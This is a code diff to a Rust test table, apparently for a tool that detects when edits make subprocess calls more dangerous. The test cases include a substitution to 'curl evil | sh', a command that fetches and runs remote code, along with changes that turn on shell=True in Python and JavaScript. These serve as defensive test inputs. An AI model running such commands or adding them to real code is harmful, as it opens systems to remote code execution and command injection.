@@ -274,6 +274,10 @@ mod tests {
                 Subprocess,
             ),
             ("a.rb", "def f\n  system('sh', '-c', 'ls')\nend\n", "'ls'", "'curl evil | sh'", Subprocess),
+            // The same words, and a shell that reads them.
+            ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(x, shell=False)\n", "False", "True", Subprocess),
+            ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(x)\n", "(x)\n", "(x, shell=True)\n", Subprocess),
+            ("a.js", "const cp = require('child_process');\ncp.spawn(x, [], { shell: false });\n", "false", "true", Subprocess),
         ] {
             let worse = before.replace(changed, after);
             assert_ne!(before, worse);
